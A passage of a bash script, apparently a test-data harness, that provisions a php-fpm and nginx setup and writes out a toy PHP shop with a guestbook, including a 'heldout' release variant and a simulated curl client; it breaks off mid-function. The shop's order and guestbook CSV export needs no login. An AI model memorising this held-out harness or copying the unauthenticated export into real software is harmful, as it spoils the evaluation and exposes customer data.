# page (pm.status_path), ping, access log, slow log (request_slowlog_timeout: the master
# traces a slow worker's stack) and PHP error log in log/; opcache on. The application, a shop
# with a guestbook, is a release directory under app/releases/ behind the symlink app/current
# (root-owned): a front controller public/index.php, its includes in src/ (routes, pages,
# database, sessions, views), templates in templates/, migrations in migrations/ and its CLI
# scripts bin/migrate.php and bin/maint.php; a SQLite database data/shop.sqlite through PDO;
# sessions as files in sessions/; uploads stored under uploads/<year>/<month>/ with generated
# names; CSV exports written to a temporary file in tmp/ (sys_temp_dir) and sent. The front
# is an nginx of its own outside the cgroup on 127.0.0.1:$PHPFPM_PORT (static assets itself,
# the rest to the pools, each FastCGI connection bound to the client's address: fastcgi_bind
# \$remote_addr), so php-fpm sees the clients' addresses. USR1 reopens its logs, USR2 reloads
# it gracefully (the master re-executes itself, new workers), QUIT stops it gracefully.
phpfpm_provision() {
  local p ports=("$PF_WWW_PORT" "$PF_API_PORT" "$PF_REPORTS_PORT")
  [ -n "$PF_FRONT_PID" ] || ports+=("$PHPFPM_PORT")   # the front of an earlier phase stays
  for p in "${ports[@]}"; do
    if ss -Hltn "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  rm -rf "$PF_DIR" "$PF_CLIENT"
  mkdir -p "$PF_DIR"/{conf/pool.d,log,run,tmp,data/reports} "$PF_RELEASES" "$PF_UPLOADS" "$PF_SESS" "$PF_CLIENT"
  phpfpm_config
  phpfpm_release r1
  ln -s releases/r1 "$PF_CURRENT"
  chown -R www-data:www-data "$PF_DATA" "$PF_UPLOADS" "$PF_SESS" "$PF_DIR/tmp"
  chmod 700 "$PF_SESS"
  # The master (root) writes its own logs; the workers write the pools' PHP error logs.
  chgrp www-data "$PF_DIR/log"
  chmod 775 "$PF_DIR/log"
  # The schema and the catalogue, before the first start (as the release's installer would).
  setpriv --reuid=www-data --regid=www-data --init-groups "${PF_PHP[@]}" "$PF_CURRENT/bin/migrate.php" >/dev/null
  phpfpm_front
}

# phpfpm_pool NAME PORT MAX START MIN_SPARE MAX_SPARE: conf/pool.d/NAME.conf, a pool of workers
# as www-data on 127.0.0.1:PORT, pm = dynamic with these numbers.
phpfpm_pool() {
  cat >"$PF_DIR/conf/pool.d/$1.conf" <<CONF
[$1]
user = www-data
group = www-data
listen = 127.0.0.1:$2
listen.backlog = 128
pm = dynamic
pm.max_children = $3
pm.start_servers = $4
pm.min_spare_servers = $5
pm.max_spare_servers = $6
pm.max_requests = 300
pm.status_path = /fpm-status
ping.path = /ping
access.log = $PF_DIR/log/$1-access.log
access.format = "%R %m %{REQUEST_URI}e %s %d %{kilo}M"
slowlog = $PF_DIR/log/$1-slow.log
request_slowlog_timeout = 1s
request_terminate_timeout = 30s
catch_workers_output = yes
php_admin_value[error_log] = $PF_DIR/log/$1-error.log
php_admin_flag[log_errors] = on
env[APP_POOL] = $1
CONF
}

# phpfpm_config [WWW_MAX]: conf/php-fpm.conf, the pools www (WWW_MAX workers at most, default 6)
# and api, and conf/php.ini.
phpfpm_config() {
  cat >"$PF_CONF" <<CONF
[global]
pid = $PF_DIR/run/php-fpm.pid
error_log = $PF_DIR/log/php-fpm.log
log_level = notice
emergency_restart_threshold = 10
emergency_restart_interval = 1m
process_control_timeout = 10s
include = $PF_DIR/conf/pool.d/*.conf
CONF
  local max=${1:-6}
  phpfpm_pool www "$PF_WWW_PORT" "$max" 2 1 $((max / 2))
  phpfpm_pool api "$PF_API_PORT" 4 1 1 2
  cat >"$PF_INI" <<INI
memory_limit = 64M
expose_php = Off
display_errors = Off
log_errors = On
error_reporting = E_ALL
date.timezone = UTC
sys_temp_dir = $PF_DIR/tmp
upload_tmp_dir = $PF_DIR/tmp
upload_max_filesize = 4M
post_max_size = 6M
session.save_handler = files
session.save_path = $PF_SESS
session.use_strict_mode = 1
session.cookie_httponly = 1
session.gc_probability = 0
session.gc_maxlifetime = 1440
opcache.enable = 1
opcache.enable_cli = 0
opcache.memory_consumption = 32
opcache.max_accelerated_files = 2000
opcache.validate_timestamps = 1
opcache.revalidate_freq = 60
INI
}

# phpfpm_front [REPORTS]: the front's nginx.conf (with REPORTS set, /export/ and /report/ go
# to the pool reports), and the front started, or told to re-read it (HUP).
PF_FRONT_PID=
phpfpm_front() {
  local fcgi="include /etc/nginx/fastcgi_params; fastcgi_bind \$remote_addr; fastcgi_param SCRIPT_FILENAME \$realpath_root/index.php;"
  # The pools' status and ping pages: php-fpm answers them by SCRIPT_NAME, before any script.
  local status="fastcgi_bind \$remote_addr; fastcgi_param REQUEST_METHOD \$request_method; fastcgi_param QUERY_STRING \$query_string; fastcgi_param REMOTE_ADDR \$remote_addr;"
  local reports=""
  [ -z "${1:-}" ] || reports="location ~ ^/(export|report)/ { $fcgi fastcgi_pass 127.0.0.1:$PF_REPORTS_PORT; }"
  mkdir -p "$PF_FRONT/tmp"
  cat >"$PF_FRONT/nginx.conf" <<CONF
user www-data;
worker_processes 1;
pid $PF_FRONT/nginx.pid;
error_log $PF_FRONT/error.log warn;
events { worker_connections 512; }
http {
  include /etc/nginx/mime.types;
  access_log $PF_FRONT/access.log;
  client_body_temp_path $PF_FRONT/tmp/body;
  fastcgi_temp_path $PF_FRONT/tmp/fastcgi;
  proxy_temp_path $PF_FRONT/tmp/proxy;
  uwsgi_temp_path $PF_FRONT/tmp/uwsgi;
  scgi_temp_path $PF_FRONT/tmp/scgi;
  client_max_body_size 8m;
  keepalive_timeout 5;
  server {
    listen 127.0.0.1:$PHPFPM_PORT;
    root $PF_CURRENT/public;
    location /assets/ { expires 1h; }
    location ~ ^/(fpm-status|ping)\$ { $status fastcgi_param SCRIPT_NAME \$uri; fastcgi_param SCRIPT_FILENAME \$uri; fastcgi_pass 127.0.0.1:$PF_WWW_PORT; }
    location = /api/fpm-status { $status fastcgi_param SCRIPT_NAME /fpm-status; fastcgi_param SCRIPT_FILENAME /fpm-status; fastcgi_pass 127.0.0.1:$PF_API_PORT; }
    location /api/ { $fcgi fastcgi_pass 127.0.0.1:$PF_API_PORT; }
    $reports
    location / { try_files \$uri @app; }
    location @app { $fcgi fastcgi_pass 127.0.0.1:$PF_WWW_PORT; }
  }
}
CONF
  if [ -n "$PF_FRONT_PID" ]; then
    kill -HUP "$PF_FRONT_PID"
    sleep 0.5
  else
    /usr/sbin/nginx -e "$PF_FRONT/error.log" -c "$PF_FRONT/nginx.conf" -g 'daemon off;' &
    PF_FRONT_PID=$!
    PIDS+=("$PF_FRONT_PID")
  fi
}

# phpfpm_release NAME: the release app/releases/NAME, root-owned. r2 (heldout's) adds product
# reviews (a migration, a page, a form, an API v2), a search page and a shipping quote page
# that waits on a carrier (0.3 s, simulated).
phpfpm_release() {
  local d=$PF_RELEASES/$1
  mkdir -p "$d"/{public/assets,src/pages,templates,migrations,bin}
  cat >"$d/src/config.php" <<PHP
<?php
const APP_RELEASE = '$1';
const DB_PATH = '$PF_DATA/shop.sqlite';
const REPORT_DIR = '$PF_DATA/reports';
const UPLOAD_DIR = '$PF_UPLOADS';
const TEMPLATE_DIR = __DIR__ . '/../templates';
const UPLOAD_TYPES = ['pdf', 'png', 'jpg', 'jpeg', 'gif', 'webp', 'txt', 'csv', 'zip', 'docx', 'xlsx', 'odt'];
PHP
  cat >"$d/src/bootstrap.php" <<'PHP'
<?php
declare(strict_types=1);
require __DIR__ . '/config.php';
require __DIR__ . '/db.php';
require __DIR__ . '/session.php';
require __DIR__ . '/view.php';
PHP
  {
    echo '<?php'
    php_pdo_funcs
    cat <<'PHP'
// The catalogue as the query string asks for it: ?kind= (a word of the name), ?sort=, ?page=.
function products(array $get, int $per = 12): array {
    $sorts = ['id' => 'id', 'name' => 'name', 'price' => 'price, id', 'stock' => 'stock DESC, id'];
    $where = isset($get['kind']) ? 'WHERE name LIKE :kind' : '';
    $s = db()->prepare("SELECT *, stock > 0 AS in_stock FROM products $where ORDER BY " . ($sorts[$get['sort'] ?? 'id'] ?? 'id') . ' LIMIT :per OFFSET :off');
    if ($where) $s->bindValue(':kind', '% ' . $get['kind']);
    $s->bindValue(':per', $per, PDO::PARAM_INT);
    $s->bindValue(':off', (max(1, (int)($get['page'] ?? 1)) - 1) * $per, PDO::PARAM_INT);
    $s->execute();
    return $s->fetchAll();
}
function product(int $id): ?array {
    return query('SELECT * FROM products WHERE id = ?', [$id])->fetch() ?: null;
}
PHP
  } >"$d/src/db.php"
  {
    echo '<?php'
    php_session_funcs
    cat <<'PHP'
function require_user(): string {
    $user = current_user();
    if ($user === null) { header('Location: /login', true, 303); exit; }
    return $user;
}
function cart(): array {
    resume_session();
    return $_SESSION['cart'] ?? [];
}
PHP
  } >"$d/src/session.php"
  {
    cat <<'PHP'
<?php
function page_header(string $title): void {
    $user = current_user();   // before any output: it may resume the session
    include TEMPLATE_DIR . '/header.phtml';
}
function page_footer(): void {
    include TEMPLATE_DIR . '/footer.phtml';
}
function render(string $template, string $title, array $vars = []): void {
    page_header($title);
    extract($vars);
    include TEMPLATE_DIR . "/$template.phtml";
    page_footer();
}
function json_out($data, int $code = 200): void {
    http_response_code($code);
    header('Content-Type: application/json');
    echo json_encode($data);
}
function redirect(string $to): void {
    header("Location: $to", true, 303);
}
PHP
    php_not_found
  } >"$d/src/view.php"
  cat >"$d/public/index.php" <<'PHP'
<?php
// The front controller: every request the front does not serve itself comes here.
require __DIR__ . '/../src/bootstrap.php';
$routes = require __DIR__ . '/../src/routes.php';
$path = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH) ?: '/';
$method = $_SERVER['REQUEST_METHOD'] === 'HEAD' ? 'GET' : $_SERVER['REQUEST_METHOD'];
foreach ($routes as [$m, $pattern, $handler]) {
    if ($m === $method && preg_match('#^' . $pattern . '$#', $path, $args)) {
        array_shift($args);
        $handler(...$args);
        exit;
    }
}
not_found();
PHP
  cat >"$d/src/routes.php" <<'PHP'
<?php
require __DIR__ . '/pages/shop.php';
require __DIR__ . '/pages/account.php';
require __DIR__ . '/pages/api.php';
require __DIR__ . '/pages/export.php';
$routes = [
    ['GET', '/', 'home_page'],
    ['GET', '/product/(\d+)', 'product_page'],
    ['GET', '/guestbook', 'guestbook_page'],
    ['POST', '/guestbook', 'guestbook_sign'],
    ['GET', '/cart', 'cart_page'],
    ['POST', '/cart/add', 'cart_add'],
    ['POST', '/cart/remove', 'cart_remove'],
    ['POST', '/checkout', 'checkout'],
    ['GET', '/login', 'login_page'],
    ['POST', '/login', 'login_submit'],
    ['GET', '/logout', 'logout'],
    ['GET', '/account', 'account_page'],
    ['POST', '/upload', 'upload'],
    ['GET', '/api/products', 'api_products'],
    ['GET', '/api/product/(\d+)', 'api_product'],
    ['GET', '/api/cart', 'api_cart'],
    ['GET', '/api/stats', 'api_stats'],
    ['POST', '/api/guestbook', 'api_guestbook'],
    ['GET', '/export/(orders|guestbook)\.csv', 'export_csv'],
    ['GET', '/report/sales', 'sales_report'],
];
if (is_file(__DIR__ . '/pages/reviews.php')) {
    require __DIR__ . '/pages/reviews.php';
    array_push($routes, ['GET', '/product/(\d+)/reviews', 'reviews_page'], ['POST', '/review', 'review_submit'],
               ['GET', '/api/v2/products', 'api_v2_products'], ['GET', '/search', 'search_page'],
               ['GET', '/quote/(\d+)', 'quote_page']);
}
return $routes;
PHP
  cat >"$d/src/pages/shop.php" <<'PHP'
<?php
function home_page(): void {
    render('home', 'Shop', ['items' => products($_GET)]);
}
function product_page(string $id): void {
    $p = product((int)$id) ?? not_found();
    render('product', $p['name'], ['p' => $p]);
}
function guestbook_page(): void {
    $page = max(1, (int)($_GET['page'] ?? 1));
    render('guestbook', 'Guestbook', ['entries' => query('SELECT * FROM guestbook ORDER BY id DESC LIMIT 20 OFFSET ?', [($page - 1) * 20])->fetchAll()]);
}
function guestbook_add(string $name, string $message): int {
    query('INSERT INTO guestbook (name, message, at, addr) VALUES (?, ?, ?, ?)',
      [substr($name, 0, 40), substr($message, 0, 4000), time(), $_SERVER['REMOTE_ADDR']]);
    return (int)db()->lastInsertId();
}
function guestbook_sign(): void {
    guestbook_add((string)($_POST['name'] ?? 'anonymous'), (string)($_POST['message'] ?? ''));
    redirect('/guestbook');
}
function cart_page(): void {
    $lines = [];
    foreach (cart() as $id => $qty) $lines[] = ['p' => product((int)$id), 'qty' => $qty];
    render('cart', 'Cart', ['lines' => $lines]);
}
function cart_add(): void {
    if (session_status() === PHP_SESSION_NONE) session_start();
    $id = (int)($_POST['id'] ?? 0);
    if (product($id) !== null) $_SESSION['cart'][$id] = ($_SESSION['cart'][$id] ?? 0) + max(1, (int)($_POST['qty'] ?? 1));
    redirect('/cart');
}
function cart_remove(): void {
    resume_session();
    unset($_SESSION['cart'][(int)($_POST['id'] ?? 0)]);
    redirect('/cart');
}
function checkout(): void {
    $user = require_user();
    $cart = cart();
    if (!$cart) { redirect('/cart'); return; }
    db()->beginTransaction();
    query('INSERT INTO orders (user, at) VALUES (?, ?)', [$user, time()]);
    $order = (int)db()->lastInsertId();
    foreach ($cart as $id => $qty) {
        query('INSERT INTO order_items (order_id, product_id, qty, price) SELECT ?, id, ?, price FROM products WHERE id = ?', [$order, $qty, $id]);
        query('UPDATE products SET stock = max(0, stock - ?) WHERE id = ?', [$qty, $id]);
    }
    db()->commit();
    $_SESSION['cart'] = [];
    redirect("/account?order=$order");
}
PHP
  {
    cat <<'PHP'
<?php
function login_page(): void {
    render('login', 'Sign in');
}
function login_submit(): void {
    $user = (string)($_POST['user'] ?? '');
    $hash = query('SELECT hash FROM users WHERE name = ?', [$user])->fetchColumn();
    if ($hash === false || !password_verify((string)($_POST['pass'] ?? ''), $hash)) {
        error_log("login failed for '$user' from " . $_SERVER['REMOTE_ADDR']);
        http_response_code(401);
        render('login', 'Sign in', ['failed' => true]);
        return;
    }
    query('UPDATE users SET last_login = ? WHERE name = ?', [time(), $user]);
    session_start();
    session_regenerate_id(true);
    $_SESSION['user'] = $user;
    $_SESSION['since'] = time();
    redirect('/account');
}
function logout(): void {
    resume_session();
    if (session_status() === PHP_SESSION_ACTIVE) session_destroy();
    redirect('/');
}
function account_page(): void {
    $user = require_user();
    render('account', 'Your account', [
        'orders' => query('SELECT id, at FROM orders WHERE user = ? ORDER BY id DESC LIMIT 10', [$user])->fetchAll(),
        'uploads' => query('SELECT name, size, at FROM uploads WHERE user = ? ORDER BY id DESC LIMIT 10', [$user])->fetchAll(),
    ]);
}
// An upload stored under uploads/<year>/<month>/ with a generated name.
function upload(): void {
    $user = require_user();
PHP
    php_upload_checks
    cat <<'PHP'
    $ext = strtolower(pathinfo($name, PATHINFO_EXTENSION));
    if (!in_array($ext, UPLOAD_TYPES, true)) { http_response_code(415); exit('type not allowed'); }
    $dir = UPLOAD_DIR . '/' . date('Y/m');
    if (!is_dir($dir)) mkdir($dir, 0750, true);
    $stored = $dir . '/' . bin2hex(random_bytes(12)) . ".$ext";
    if (!move_uploaded_file($f['tmp_name'], $stored)) { http_response_code(500); exit('upload failed'); }
    query('INSERT INTO uploads (user, name, path, size, at) VALUES (?, ?, ?, ?, ?)', [$user, $name, $stored, $f['size'], time()]);
    redirect('/account');
}
PHP
  } >"$d/src/pages/account.php"
  cat >"$d/src/pages/api.php" <<'PHP'
<?php
function api_products(): void {
    json_out(['page' => (int)($_GET['page'] ?? 1), 'items' => products($_GET, 20)]);
}
function api_product(string $id): void {
    $p = product((int)$id);
    $p === null ? json_out(['error' => 'not found'], 404) : json_out($p);
}
function api_cart(): void {
    json_out(['user' => current_user(), 'cart' => cart()]);
}
function api_stats(): void {
    json_out(['release' => APP_RELEASE, 'pool' => getenv('APP_POOL'), 'pid' => getmypid(),
              'products' => (int)query('SELECT count(*) FROM products')->fetchColumn(),
              'orders' => (int)query('SELECT count(*) FROM orders')->fetchColumn(),
              'opcache' => function_exists('opcache_get_status') ? (opcache_get_status(false)['opcache_statistics']['num_cached_scripts'] ?? 0) : 0]);
}
function api_guestbook(): void {
    $in = json_decode(file_get_contents('php://input'), true);
    if (!is_array($in) || !isset($in['message'])) { json_out(['error' => 'bad request'], 400); return; }
    json_out(['id' => guestbook_add((string)($in['name'] ?? 'api'), (string)$in['message'])], 201);
}
PHP
  cat >"$d/src/pages/export.php" <<'PHP'
<?php
// A CSV export, written to a temporary file first (sys_temp_dir) and sent from there.
function export_csv(string $what): void {
    $sql = $what === 'orders'
        ? 'SELECT o.id, o.user, o.at, i.product_id, i.qty, i.price FROM orders o JOIN order_items i ON i.order_id = o.id ORDER BY o.id DESC LIMIT 500'
        : 'SELECT id, name, at, addr FROM guestbook ORDER BY id DESC LIMIT 500';
    $tmp = tempnam(sys_get_temp_dir(), 'export-');
    $out = fopen($tmp, 'w');
    $first = true;
    foreach (query($sql) as $row) {
        if ($first) { fputcsv($out, array_keys($row)); $first = false; }
        fputcsv($out, $row);
    }
    fclose($out);
    header('Content-Type: text/csv');
    header("Content-Disposition: attachment; filename=\"$what.csv\"");
    readfile($tmp);
    unlink($tmp);
}
// The sales report: a heavy aggregate (its slow part simulated: 1.2 s, so the pool's slow log
// gets an entry).
function sales_report(): void {
    $rows = query('SELECT p.name, sum(i.qty) AS qty, sum(i.qty * i.price) AS total FROM order_items i JOIN products p ON p.id = i.product_id GROUP BY p.id ORDER BY total DESC LIMIT 20')->fetchAll();
    usleep(1200000);
    render('report', 'Sales', ['rows' => $rows]);
}
PHP
  cat >"$d/templates/header.phtml" <<'PHP'
<!doctype html><html><head><title><?= htmlspecialchars($title) ?></title><link rel="stylesheet" href="/assets/site.css"></head><body>
<nav><a href="/">shop</a> <a href="/guestbook">guestbook</a> <a href="/cart">cart</a>
<?= $user ? 'signed in as ' . htmlspecialchars($user) . ' <a href="/logout">sign out</a>' : '<a href="/login">sign in</a>' ?></nav>
PHP
  cat >"$d/templates/footer.phtml" <<'PHP'
<footer>release <?= APP_RELEASE ?></footer><script src="/assets/app.js"></script></body></html>
PHP
  cat >"$d/templates/home.phtml" <<'PHP'
<?php foreach ($items as $i): ?><p><a href="/product/<?= $i['id'] ?>"><?= htmlspecialchars($i['name']) ?></a> <?= $i['price'] ?> EUR</p>
<?php endforeach ?>
PHP
  cat >"$d/templates/product.phtml" <<'PHP'
<h1><?= htmlspecialchars($p['name']) ?></h1><p><?= $p['price'] ?> EUR, <?= $p['stock'] ?> in stock</p>
<form method="post" action="/cart/add"><input type="hidden" name="id" value="<?= $p['id'] ?>"><input name="qty" value="1"></form>
PHP
  cat >"$d/templates/guestbook.phtml" <<'PHP'
<form method="post" action="/guestbook"><input name="name"><textarea name="message"></textarea></form>
<?php foreach ($entries as $e): ?><blockquote><?= nl2br(htmlspecialchars($e['message'])) ?><cite><?= htmlspecialchars($e['name']) ?></cite></blockquote>
<?php endforeach ?>
PHP
  cat >"$d/templates/cart.phtml" <<'PHP'
<?php foreach ($lines as $l): ?><p><?= htmlspecialchars($l['p']['name'] ?? '?') ?> x <?= (int)$l['qty'] ?></p>
<?php endforeach ?><form method="post" action="/checkout"></form>
PHP
  cat >"$d/templates/login.phtml" <<'PHP'
<?php if (!empty($failed)): ?><p>wrong user or password</p><?php endif ?>
<form method="post" action="/login"><input name="user"><input name="pass" type="password"></form>
PHP
  cat >"$d/templates/account.phtml" <<'PHP'
<h2>Orders</h2><?php foreach ($orders as $o): ?><p>#<?= $o['id'] ?> <?= date('Y-m-d H:i', (int)$o['at']) ?></p><?php endforeach ?>
<h2>Uploads</h2><?php foreach ($uploads as $u): ?><p><?= htmlspecialchars($u['name']) ?> (<?= $u['size'] ?> bytes)</p><?php endforeach ?>
<form method="post" action="/upload" enctype="multipart/form-data"><input type="file" name="doc"></form>
PHP
  cat >"$d/templates/report.phtml" <<'PHP'
<table><?php foreach ($rows as $r): ?><tr><td><?= htmlspecialchars($r['name']) ?></td><td><?= $r['qty'] ?></td><td><?= $r['total'] ?></td></tr><?php endforeach ?></table>
PHP
  echo "body { font-family: sans-serif; max-width: 50em; margin: auto }" >"$d/public/assets/site.css"
  echo "document.querySelectorAll('form').forEach(f => f.reset())" >"$d/public/assets/app.js"
  cat >"$d/bin/migrate.php" <<'PHP'
<?php
// Applies the release's migrations (migrations/NNN_*.php) not yet in schema_migrations.
require __DIR__ . '/../src/bootstrap.php';
$db = db();
$db->exec('CREATE TABLE IF NOT EXISTS schema_migrations (version TEXT PRIMARY KEY, applied_at INTEGER NOT NULL)');
$done = $db->query('SELECT version FROM schema_migrations')->fetchAll(PDO::FETCH_COLUMN);
foreach (glob(__DIR__ . '/../migrations/*.php') as $file) {
    $version = basename($file, '.php');
    if (in_array($version, $done, true)) continue;
    $db->beginTransaction();
    (require $file)($db);
    query('INSERT INTO schema_migrations VALUES (?, ?)', [$version, time()]);
    $db->commit();
    echo "migrated $version\n";
}
PHP
  cat >"$d/bin/maint.php" <<'PHP'
<?php
// The shop's scheduled job: --vacuum, --analyze, --prune-uploads SECONDS (uploads older than
// that removed, files and rows), --report NAME (a sales summary in data/reports/).
require __DIR__ . '/../src/bootstrap.php';
$opt = getopt('', ['vacuum', 'analyze', 'prune-uploads:', 'report:']);
if (isset($opt['prune-uploads'])) {
    $old = query('SELECT id, path FROM uploads WHERE at < ?', [time() - (int)$opt['prune-uploads']])->fetchAll();
    foreach ($old as $u) {
        if (is_file($u['path'])) unlink($u['path']);
        query('DELETE FROM uploads WHERE id = ?', [$u['id']]);
    }
    echo 'pruned ' . count($old) . " uploads\n";
}
if (isset($opt['report'])) {
    $out = fopen(REPORT_DIR . '/' . $opt['report'] . '-' . date('Ymd-His') . '.csv', 'w');
    foreach (query("SELECT date(at, 'unixepoch') AS day, count(*) AS orders FROM orders GROUP BY day") as $row) fputcsv($out, $row);
    fclose($out);
}
if (isset($opt['analyze'])) db()->exec('ANALYZE');
if (isset($opt['vacuum'])) db()->exec('VACUUM');
PHP
  cat >"$d/migrations/001_init.php" <<'PHP'
<?php
return function (PDO $db): void {
    $db->exec('CREATE TABLE products (id INTEGER PRIMARY KEY, name TEXT NOT NULL, price INTEGER NOT NULL, stock INTEGER NOT NULL)');
    $db->exec('CREATE TABLE users (name TEXT PRIMARY KEY, hash TEXT NOT NULL, last_login INTEGER)');
    $db->exec('CREATE TABLE guestbook (id INTEGER PRIMARY KEY, name TEXT NOT NULL, message TEXT NOT NULL, at INTEGER NOT NULL, addr TEXT)');
    $db->exec('CREATE TABLE orders (id INTEGER PRIMARY KEY, user TEXT NOT NULL, at INTEGER NOT NULL)');
    $db->exec('CREATE TABLE order_items (order_id INTEGER NOT NULL, product_id INTEGER NOT NULL, qty INTEGER NOT NULL, price INTEGER NOT NULL)');
    $db->exec('CREATE TABLE uploads (id INTEGER PRIMARY KEY, user TEXT NOT NULL, name TEXT NOT NULL, path TEXT NOT NULL, size INTEGER NOT NULL, at INTEGER NOT NULL)');
    $p = $db->prepare('INSERT INTO products VALUES (?, ?, ?, ?)');
    $kinds = ['lamp', 'chair', 'desk', 'shelf', 'rug', 'mug', 'clock'];
    for ($i = 1; $i <= 240; $i++) $p->execute([$i, "item $i " . $kinds[$i % 7], $i * 7 % 90 + 5, 20 + $i * 13 % 40]);
    $u = $db->prepare('INSERT INTO users (name, hash) VALUES (?, ?)');
    for ($i = 1; $i <= 40; $i++) { $n = sprintf('u%02d', $i); $u->execute([$n, password_hash("pw-$n", PASSWORD_BCRYPT, ['cost' => 6])]); }
};
PHP
  cat >"$d/migrations/002_indexes.php" <<'PHP'
<?php
return function (PDO $db): void {
    $db->exec('CREATE INDEX orders_user ON orders (user)');
    $db->exec('CREATE INDEX uploads_user ON uploads (user, id)');
    $db->exec('CREATE INDEX guestbook_at ON guestbook (at)');
};
PHP
  [ "$1" != r1 ] || return 0
  cat >"$d/migrations/003_reviews.php" <<'PHP'
<?php
return function (PDO $db): void {
    $db->exec('CREATE TABLE reviews (id INTEGER PRIMARY KEY, product_id INTEGER NOT NULL REFERENCES products (id), user TEXT, stars INTEGER NOT NULL CHECK (stars BETWEEN 1 AND 5), body TEXT NOT NULL, at INTEGER NOT NULL)');
    $db->exec('CREATE INDEX reviews_product ON reviews (product_id, at)');
    $db->exec('ALTER TABLE products ADD COLUMN rating REAL');
    $u = $db->prepare('INSERT INTO users (name, hash) VALUES (?, ?)');
    for ($i = 41; $i <= 60; $i++) { $n = sprintf('u%02d', $i); $u->execute([$n, password_hash("pw-$n", PASSWORD_BCRYPT, ['cost' => 6])]); }
};
PHP
  cat >"$d/src/pages/reviews.php" <<'PHP'
<?php
function reviews_page(string $id): void {
    $p = product((int)$id) ?? not_found();
    render('reviews', "Reviews of {$p['name']}", ['p' => $p,
           'reviews' => query('SELECT user, stars, body, at FROM reviews WHERE product_id = ? ORDER BY at DESC LIMIT 20', [$p['id']])->fetchAll()]);
}
function review_submit(): void {
    $user = require_user();
    $id = (int)($_POST['product'] ?? 0);
    query('INSERT INTO reviews (product_id, user, stars, body, at) VALUES (?, ?, ?, ?, ?)',
      [$id, $user, min(5, max(1, (int)($_POST['stars'] ?? 5))), (string)($_POST['body'] ?? ''), time()]);
    query('UPDATE products SET rating = (SELECT avg(stars) FROM reviews WHERE product_id = ?) WHERE id = ?', [$id, $id]);
    redirect("/product/$id/reviews");
}
function api_v2_products(): void {
    $page = max(1, (int)($_GET['page'] ?? 1));
    json_out(['page' => $page, 'items' => query('SELECT id, name, price, stock, rating FROM products ORDER BY rating DESC, id LIMIT 20 OFFSET ?', [($page - 1) * 20])->fetchAll()]);
}
function search_page(): void {
    $term = (string)($_GET['q'] ?? '');
    render('home', 'Search', ['items' => query('SELECT * FROM products WHERE name LIKE ? ORDER BY id LIMIT 30', ["%$term%"])->fetchAll()]);
}
// A shipping quote: the carrier's answer takes 0.3 s (simulated).
function quote_page(string $id): void {
    $p = product((int)$id) ?? not_found();
    usleep(300000);
    json_out(['product' => $p['id'], 'carrier' => 'parcel', 'price' => 4 + $p['price'] % 7]);
}
PHP
  cat >"$d/templates/reviews.phtml" <<'PHP'
<h1><?= htmlspecialchars($p['name']) ?></h1><p>rating <?= $p['rating'] ?? '-' ?></p>
<?php foreach ($reviews as $r): ?><blockquote><?= str_repeat('*', (int)$r['stars']) ?> <?= htmlspecialchars($r['body']) ?><cite><?= htmlspecialchars((string)$r['user']) ?></cite></blockquote><?php endforeach ?>
PHP
  echo ".stars { color: #c80 }" >"$d/public/assets/reviews.css"
}

PF_PID=
# Started as the init script does: the config test (`php-fpm8.2 -t`), then php-fpm in the
# foreground, as root, in the cgroup; ready once both pools answer through the front.
phpfpm_ready() {
  curl -sf -o /dev/null "http://127.0.0.1:$PHPFPM_PORT/ping" &&
    curl -sf -o /dev/null "http://127.0.0.1:$PHPFPM_PORT/api/stats"
}
phpfpm_start() {
  admin phpfpm root /usr/sbin/php-fpm8.2 -t -y "$PF_CONF" -c "$PF_INI"
  launch phpfpm root /usr/sbin/php-fpm8.2 -F -y "$PF_CONF" -c "$PF_INI"
  PF_PID=$LAUNCHED
  until_ok phpfpm_ready
}
# A graceful stop (QUIT: the workers finish their requests), as the init script's stop; then
# the script's summary: the rounds so far, and what the instance holds (uploads, session
# files, and, in php-fpm.log and the two generations rotation keeps, the workers its master
# started and the slow requests it traced).
phpfpm_stop() {
  stop_pid "$PF_PID" QUIT
  echo "record-testdata: phpfpm: stopped after round $PF_ROUND: $(find "$PF_UPLOADS" -type f | wc -l) uploads," \
    "$(find "$PF_SESS" -type f | wc -l) session files, $(zcat -f "$PF_DIR"/log/php-fpm.log* | grep -c 'child .* started')" \
    "workers started and $(zcat -f "$PF_DIR"/log/php-fpm.log* | grep -c 'finished trace') slow requests traced (since two rotations)" >&2
}
# As `systemctl reload php8.2-fpm` (ExecReload): USR2, the master re-executes itself and
# starts new workers (opcache starts empty).
phpfpm_reload() { heldout14_reload USR2 "$PF_PID" phpfpm_ready; }
# phpfpm_rotate [GZIP]: Debian's logrotate for php-fpm: the logs renamed to .1 (the previous
# .1 to .2, gzipped with GZIP set), then USR1 (php8.2-fpm-reopenlogs) reopens them.
phpfpm_rotate() { rotate_logs USR1 "$PF_PID" "${1:-}" "$PF_DIR"/log/*.log; }
# phpfpm_php SCRIPT ARGS...: a CLI script of a release (a path) run by the php CLI (PF_PHP) as
# www-data inside the cgroup, as its cron entry or the deploy's step would.
phpfpm_php() { admin phpfpm www-data "${PF_PHP[@]}" "$@"; }
# phpfpm_sessionclean MINUTES: Debian's sessionclean, as www-data: the session files not
# changed for MINUTES minutes deleted by find.
phpfpm_sessionclean() {
  admin phpfpm www-data /usr/bin/find "$PF_SESS" -ignore_readdir_race -depth -mindepth 1 -name 'sess_*' \
    -type f -cmin "+$1" -delete
}

# phpfpm_client SRC STEP...: one browser from SRC (an alias of 127.0.0.1) with its own cookie
# jar, a curl per step through the front. A STEP is a PATH (GET), head:PATH, login:USER,
# badlogin:USER (a wrong password), cart:ID:QTY, uncart:ID, checkout, sign:NAME:LEN (a
# guestbook entry of LEN characters), json:LEN (one POSTed to the API as JSON),
# upload:NAME:SIZE (a multipart upload of SIZE random bytes), review:ID:STARS (release r2).
phpfpm_client() {
  local from=$1 cdir s a b
  cdir=$(mktemp -d -p "$PF_CLIENT")
  shift
  for s in "$@"; do
    IFS=: read -r _ a b <<<"$s"
    case $s in
      /*) pf_curl "$from" "$cdir" "$s" ;;
      head:*) pf_curl "$from" "$cdir" "$a" -I ;;
      login:*) pf_curl "$from" "$cdir" /login -d "user=$a&pass=pw-$a" ;;
      badlogin:*) pf_curl "$from" "$cdir" /login -d "user=$a&pass=wrong" ;;
      cart:*) pf_curl "$from" "$cdir" /cart/add -d "id=$a&qty=$b" ;;
      uncart:*) pf_curl "$from" "$cdir" /cart/remove -d "id=$a" ;;
      checkout) pf_curl "$from" "$cdir" /checkout -X POST ;;
      sign:*) pf_curl "$from" "$cdir" /guestbook -d "name=$a" -d "message=$(head -c "$b" /dev/zero | tr '\0' g)" ;;
